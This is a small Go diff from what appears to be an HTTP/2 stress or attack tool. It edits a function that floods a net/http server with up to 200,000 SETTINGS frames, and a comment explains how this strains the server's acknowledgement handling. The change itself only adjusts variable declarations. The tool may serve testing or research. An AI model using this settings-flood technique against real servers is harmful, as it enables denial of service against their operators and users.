@@ -186,12 +186,12 @@ const manySettings = 200_000
 // settings writes frames of settings and reads nothing. net/http owes one acknowledgement for all that came since the last one, so that no
 // queue gets full: each frame costs what it sends, which is less than a twentieth of a request.
 func settings(a *attacker) error {
-	conn, f, err := a.speak()
+	conn, _, err := a.speak()
 	if err != nil {
 		return err
 	}
 	defer func() { _ = conn.Close() }()
-	f = pack(conn)
+	f := pack(conn)
 	for n := 0; n < manySettings && a.ctx.Err() == nil; n++ {
 		if err := f.WriteSettings(); err != nil {
 			return nil // given up, as it may be
